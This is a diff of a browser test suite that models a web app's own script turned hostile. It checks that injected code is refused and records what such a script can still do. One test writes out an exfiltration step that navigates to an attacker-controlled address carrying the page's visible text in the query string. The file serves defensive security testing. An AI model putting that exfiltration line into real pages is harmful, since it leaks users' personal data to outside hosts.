@@ -1,7 +1,5 @@
-import { ask } from '../../support/asking.ts';
 import { attackIn, expect, test } from '../../support/injected.ts';
-import { addNote, noteTitled } from '../../support/notes.ts';
-import { paths } from '../../support/paths.ts';
+import { sendText, sentTexts } from '../../support/probe.ts';
 import { readStorage, readVariables } from '../../support/readable.ts';
 import { attack, lookAround } from '../../support/own-script.ts';
 import { tokensIn } from '../../support/tokens.ts';
@@ -10,7 +8,7 @@ test.describe("a script of the app's own that has turned against it", () => {
   test(
     'makes no code of text, and loads none',
     { tag: '@core' },
-    async ({ page, pages, corruptScript, whatRan }) => {
+    async ({ page, attackerPages, corruptScript, whatRan }) => {
       corruptScript(attack);
       await page.goto('/sign-in');
       const outcomes = await attackIn<Record<string, string>>(page);
@@ -18,7 +16,7 @@ test.describe("a script of the app's own that has turned against it", () => {
       expect(Object.keys(outcomes).filter((name) => outcomes[name] !== 'refused')).toEqual([]);
       expect(Object.keys(outcomes).length).toBeGreaterThan(20);
       expect(await whatRan()).toEqual([]);
-      expect(pages.asked.map(({ url }) => url)).toEqual([]);
+      expect(attackerPages.asked.map(({ url }) => url)).toEqual([]);
     },
   );
 
@@ -58,18 +56,19 @@ test.describe("a script of the app's own that has turned against it", () => {
 
   test('can act as the person while the page is open', async ({ page, signUp }) => {
     await signUp();
-    await addNote(page, { title: 'Theirs' });
-    const body = { title: 'Written by a script', body: '' };
-    expect((await ask(page, { method: 'POST', path: paths.notes, body })).status).toBe(201);
-    await page.reload();
-    await expect(noteTitled(page, 'Written by a script')).toBeVisible();
+    await sendText(page, 'Written by a script');
+    expect(await sentTexts(page)).toEqual(['Written by a script']);
   });
 
-  test('can send what it sees away in an address, by leaving the page', async ({ page, pages, signUp }) => {
+  test('can send what it sees away in an address, by leaving the page', async ({
+    page,
+    attackerPages,
+    signUp,
+  }) => {
     await signUp();
-    const attacker = pages.addressOf('foreign', '/?seen=');
+    const attacker = attackerPages.addressOf('foreign', '/?seen=');
     await page.evaluate((to) => location.assign(to + encodeURIComponent(document.body.innerText)), attacker);
-    await expect.poll(() => pages.asked[0]?.url).toContain('Ada');
-    expect(pages.asked[0]?.headers).not.toHaveProperty('referer');
+    await expect.poll(() => attackerPages.asked[0]?.url).toContain('Ada');
+    expect(attackerPages.asked[0]?.headers).not.toHaveProperty('referer');
   });
 });
